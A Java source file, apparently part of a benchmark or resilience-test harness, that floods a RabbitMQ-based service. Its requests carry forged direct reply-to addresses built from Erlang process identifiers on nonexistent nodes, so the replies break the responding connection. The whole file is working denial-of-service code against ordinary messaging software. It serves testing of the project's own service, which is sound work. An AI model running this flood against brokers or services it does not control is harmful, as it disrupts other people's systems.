package warren.bench.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.rabbitmq.client.AMQP.BasicProperties;
import com.rabbitmq.client.Channel;
import com.rabbitmq.client.Connection;
import com.rabbitmq.client.ConnectionFactory;
import com.rabbitmq.client.GetResponse;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URISyntaxException;
import java.security.GeneralSecurityException;
import java.util.Base64;
import java.util.concurrent.TimeoutException;
import warren.bench.subjects.Subjects;
import warren.settings.StartException;

/**
 * Requests whose direct reply addresses name nodes that do not exist, so that their replies end the
 * connection that sends them.
 */
final class ForgedReplies implements Flood.Running {
  private static final String DIRECT = "amq.rabbitmq.reply-to";
  private static final int CLOSE_MS = 2_000;
  private static final long DELIVERY_NS = 10_000_000_000L;

  /** The end of a process identifier in Erlang's external term format: three numbers of 4 bytes. */
  private static final int NUMBERS = 12;

  private final Connection connection;
  private final Channel channel;

  private final int requests;

  private ForgedReplies(Connection connection, Channel channel, int requests) {
    this.requests = requests;
    this.connection = connection;
    this.channel = channel;
  }

  /** Sends a number of requests. */
  static ForgedReplies send(String uri, int requests) throws InterruptedException {
    try {
      var factory = new ConnectionFactory();
      factory.setUri(uri);
      var connection = factory.newConnection("flood");
      var forged = new ForgedReplies(connection, connection.createChannel(), requests);
      forged.send();
      return forged;
    } catch (GeneralSecurityException | URISyntaxException | IOException | TimeoutException e) {
      throw new StartException("The flood cannot connect to the broker: " + e, e);
    }
  }

  private void send() throws IOException, InterruptedException {
    var parts = genuineAddress().substring(DIRECT.length() + 1).split("\\.", -1);
    for (var i = 0; i < requests; i++) {
      var address = DIRECT + "." + onUnknownNode(parts[0], i) + "." + parts[1];
      var properties = new BasicProperties.Builder().replyTo(address).correlationId("1").build();
      channel.basicPublish("", Subjects.TOKEN_STATUS, properties, "{}".getBytes(UTF_8));
    }
  }

  /** The address that the broker gives to the receiver of a request with a direct reply. */
  private String genuineAddress() throws IOException, InterruptedException {
    var queue = channel.queueDeclare().getQueue();
    channel.basicConsume(DIRECT, true, (tag, delivery) -> {}, tag -> {});
    var request = new BasicProperties.Builder().replyTo(DIRECT).build();
    channel.basicPublish("", queue, request, new byte[0]);
    var end = System.nanoTime() + DELIVERY_NS;
    GetResponse received;
    while ((received = channel.basicGet(queue, true)) == null) {
      if (System.nanoTime() > end) {
        throw new IOException("The broker did not deliver a request in time.");
      }
      Thread.sleep(1);
    }
    return received.getProps().getReplyTo();
  }

  /** The identifier of the same process on another node. */
  private static String onUnknownNode(String process, int number) {
    var term = Base64.getDecoder().decode(process);
    var node = ("reply@" + (20_000_000 + number)).getBytes(UTF_8);
    var forged = new ByteArrayOutputStream();
    forged.writeBytes(new byte[] {(byte) 131, 'X', 'v', 0, (byte) node.length});
    forged.writeBytes(node);
    forged.write(term, term.length - NUMBERS, NUMBERS);
    return Base64.getEncoder().encodeToString(forged.toByteArray());
  }

  @Override
  public long sent() {
    return requests;
  }

  @Override
  public void stop() {
    connection.abort(CLOSE_MS);
  }
}
